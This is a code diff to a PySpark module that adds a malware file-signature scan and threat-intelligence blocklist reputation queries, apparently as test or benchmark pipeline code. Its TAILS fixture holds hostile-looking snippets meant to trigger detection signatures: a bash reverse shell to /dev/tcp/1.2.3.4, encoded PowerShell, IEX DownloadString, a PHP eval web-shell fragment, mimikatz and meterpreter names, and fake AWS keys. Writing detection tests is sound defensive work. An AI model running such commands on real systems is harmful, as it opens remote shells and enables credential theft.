@@ -9,7 +9,7 @@ from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from ..functions import columns, fixed
-from ..operators import facts
+from ..operators import facts, literals, reassembly, reputation
 from . import captures, report, rules
 from .rule_queries import CAP, CLIENT, TS, case, group, of
 from .rule_queries import MADE as RULE_MADE
@@ -211,6 +211,31 @@ def fact_file_types(spark: SparkSession, sf_dir: str) -> DataFrame:
     return d.select("doc_id", columns.identified(F.concat(F.element_at(heads, (F.col("doc_id") % len(HEADS)).cast("int") + 1), text)).alias("kind"))
 
 
+#: What texts are put before, so that each signature is met and missed, and the types that files are taken for.
+TAILS = (
+    "", "PowerShell.exe -w hidden -Enc " + "QUJD" * 12, "IEX Invoke-Expression DownloadString(", "iex invoke-expression downloadstring(", "/OpenAction /JS", "/Launch", "Document_Open CreateObject( 'WScript", "<?php eval( $_POST[1])", "bash -i >& /dev/tcp/1.2.3.4/9",
+    "New-Object System.Net.Sockets.TCPClient", "SEKURLSA", "sekurlsa", "ReflectiveLoader meterpreter", "All your files were ENCRYPTED: Monero", "your files are encrypted", "bcdedit /set recoveryenabled no", "UPX0 UPX!", "-----BEGIN EC PRIVATE KEY", "akia" + "A" * 16, "AKIA" + "B7" * 8,
+    "xoxb-12345678901", "stratum+tcp://pool.example:1", "SbieDll.dll qemu-ga", "metsrv.dll", "UPX0",
+)
+FILE_KINDS = ("pdf", "docx", "txt", "ole")
+
+
+def _signature(name: str, severity: str, words: tuple, patterns: tuple, least: int, types: tuple) -> str:
+    tests = [f"contains(t, $${w}$$)" for w in words] + [f"regexp_matches(t, $${p}$$)" for p in patterns]
+    kinds = f" AND kind IN ({', '.join(repr(k) for k in types)})" if types else ""
+    return f"SELECT doc_id, $${name}$$ AS signature, '{severity}' AS severity FROM f WHERE {' + '.join(f'CAST({x} AS INT)' for x in tests)} >= {least or len(tests)}{kinds}"
+
+
+@query(f"""WITH f AS (SELECT doc_id, [{", ".join(f"'{k}'" for k in FILE_KINDS)}][CAST(doc_id % {len(FILE_KINDS)} AS INT) + 1] AS kind, concat(coalesce(text, ''), ' ', [{", ".join(f"$${t}$$" for t in TAILS)}][CAST(doc_id % {len(TAILS)} AS INT) + 1]) AS t FROM documents)
+{" UNION ALL ".join(_signature(*x) for x in reassembly.SIGNATURES)}""")
+def file_signature_scan(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """The signatures of a file made of each whole document: one pass for all literals, patterns where theirs are found."""
+    of = lambda all_: F.element_at(F.array(*[F.lit(x) for x in all_]), (F.col("doc_id") % len(all_)).cast("int") + 1)
+    d = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", of(FILE_KINDS).alias("kind"), F.concat(F.coalesce("text", F.lit("")), F.lit(" "), of(TAILS)).alias("t"))
+    s = literals.with_literals(d, "t", reassembly.signature_literals())
+    return s.select("doc_id", F.explode(reassembly.signatures(F.col("literals"), F.col("t"), F.col("kind"))).alias("s")).select("doc_id", F.col("s.name").alias("signature"), "s.severity")
+
+
 def _among(ranges: list[tuple[str, str]]) -> str:
     """SQL: label of the first range that holds the number n or the digits d."""
 
@@ -262,6 +287,54 @@ def web_attack_evidence(spark: SparkSession, sf_dir: str) -> DataFrame:
     return rules.web_evidence(t).select("capture_id", "number", "title", "kind", "weight", "matched", "location", "context", "status")
 
 
+# blocklists ---------------------------------------------------------------------------------------------------
+
+#: Feeds by name, kind, severity and time; the last has no entries and no time.
+FEEDS = (("exact", "ip", "high", "TIMESTAMP '2024-01-09 22:10:00'"), ("ranges", "ip", "critical", "TIMESTAMP '2024-01-02 03:25:00'"), ("names", "domain", "medium", "TIMESTAMP '2024-01-08 00:00:00'"), ("urls", "url", "low", "TIMESTAMP '2023-11-30 12:00:00'"), ("empty", "domain", "high", "CAST(NULL AS TIMESTAMP)"))
+NOW = "TIMESTAMP '2024-01-10 01:00:00'"
+STATUS = " UNION ALL ".join(f"SELECT '{name}' AS name, '{kind}' AS kind, '{severity}' AS severity, {at} AS fetched_at" for name, kind, severity, at in FEEDS)
+ENTRIES = """SELECT DISTINCT 'exact' AS feed, 'ip' AS kind, 'high' AS severity, concat('45.77.', c_custkey % 256, '.', c_nationkey) AS value, CAST(NULL AS BIGINT) AS lo, CAST(NULL AS BIGINT) AS hi FROM customer
+  UNION ALL SELECT 'ranges', 'ip', 'critical', concat('45.77.', n_nationkey * 5, '.0/26'), CAST(760020992 + n_nationkey * 1280 AS BIGINT), CAST(760020992 + n_nationkey * 1280 + 63 AS BIGINT) FROM nation
+  UNION ALL SELECT 'names', 'domain', 'medium', concat('d', s_suppkey * 3, '.example.com'), NULL, NULL FROM supplier UNION ALL SELECT 'urls', 'url', 'low', concat('h', s_nationkey, '.d', s_suppkey, '.example.com'), NULL, NULL FROM supplier"""
+SEEN = "SELECT concat('45.77.', user_id % 256, '.', event_id % 256) AS ip, 760020992 + (user_id % 256) * 256 + event_id % 256 AS n, concat('H', event_id % 50, '.d', user_id, '.example.com.') AS domain FROM events"
+
+
+def _links(links: tuple) -> str:
+    return "concat_ws(' ', " + ", ".join(f"replace('{url}', '{{}}', indicator)" for _, url in links) + ")"
+
+
+def blocklists(spark: SparkSession, sf_dir: str) -> dict[str, DataFrame]:
+    for name in ("events", "customer", "nation", "supplier"):
+        spark.read.parquet(f"{sf_dir}/{name}.parquet").createOrReplaceTempView(f"wiretide_{name}")
+    run = lambda sql: spark.sql(sql.replace("FROM ", "FROM wiretide_"))
+    feeds = run(ENTRIES)
+    return {"seen": run(SEEN), "feeds": feeds, "status": reputation.feed_status(spark.sql(STATUS), feeds, F.expr(NOW))}
+
+
+_STATUS_SQL = f"""status AS (SELECT l.name, l.kind, l.severity, fetched_at, coalesce(n, 0) AS entries, round((epoch_us({NOW}) - epoch_us(fetched_at)) / 3600000000.0, 1) AS age_hours, coalesce(n, 0) > 0 AS cached, coalesce((epoch_us({NOW}) - epoch_us(fetched_at)) / 3600000000.0 > 168, false) AS stale
+  FROM ({STATUS}) l LEFT JOIN (SELECT feed, count(*) AS n FROM ({ENTRIES}) GROUP BY feed) e ON e.feed = l.name)"""
+
+
+@query(f"WITH {_STATUS_SQL} SELECT name, kind, severity, entries, CAST(age_hours AS DOUBLE) AS age_hours, cached, stale FROM status")
+def reputation_feed_status(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """What is known of each feed: entries, age, whether it is there and whether it is stale."""
+    return blocklists(spark, sf_dir)["status"].drop("fetched_at")
+
+
+@query(f"""WITH {_STATUS_SQL}, e AS ({ENTRIES}), a AS (SELECT DISTINCT ip, n FROM ({SEEN})), d AS (SELECT DISTINCT lower(rtrim(domain, '.')) AS domain FROM ({SEEN})),
+hits AS (SELECT ip AS indicator, 'ip' AS kind, feed, severity, 'listed' AS detail FROM a JOIN e ON e.value = a.ip AND e.kind = 'ip' UNION ALL SELECT ip, 'ip', feed, severity, concat('within ', value) FROM a JOIN e ON n BETWEEN lo AND hi
+  UNION ALL SELECT domain, 'domain', feed, severity, concat('matched ', min(value)) FROM d JOIN e ON e.kind IN ('domain', 'url') AND (domain = value OR ends_with(domain, concat('.', value))) GROUP BY ALL),
+g AS (SELECT indicator, kind, ['info', 'low', 'medium', 'high', 'critical'][max(list_position(['info', 'low', 'medium', 'high', 'critical'], severity))] AS worst_severity, string_agg(concat(feed, ' ', detail), ', ' ORDER BY feed) AS sources FROM hits GROUP BY ALL)
+SELECT indicator, kind, worst_severity, sources, (SELECT count(*) FROM status s WHERE cached AND (s.kind = 'ip') = (g.kind = 'ip')) AS checked_feeds, (SELECT string_agg(name, ' ' ORDER BY name) FROM status WHERE stale) AS stale_feeds,
+  CASE WHEN kind = 'ip' THEN {_links(reputation.IP_LINKS)} ELSE {_links(reputation.NAME_LINKS)} END AS links FROM g""")
+def reputation_report(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """The listed addresses and names of all events: by which feeds, how well checked, and where to look on."""
+    b = blocklists(spark, sf_dir)
+    r = reputation.enriched_report(b["seen"].select("ip"), b["seen"].select("domain"), b["feeds"], b["status"])
+    said = F.array_join(F.transform("sources", lambda x: F.concat(x["feed"], F.lit(" "), x["detail"])), ", ")
+    return r.select("indicator", "kind", "worst_severity", said.alias("sources"), "checked_feeds", F.array_join("stale_feeds", " ").alias("stale_feeds"), F.array_join("links.url", " ").alias("links"))
+
+
 # whole captures -----------------------------------------------------------------------------------------------
 
 _NAME = f"concat({captures._LABEL}, '.user', user_id % 7, '.example.com')"
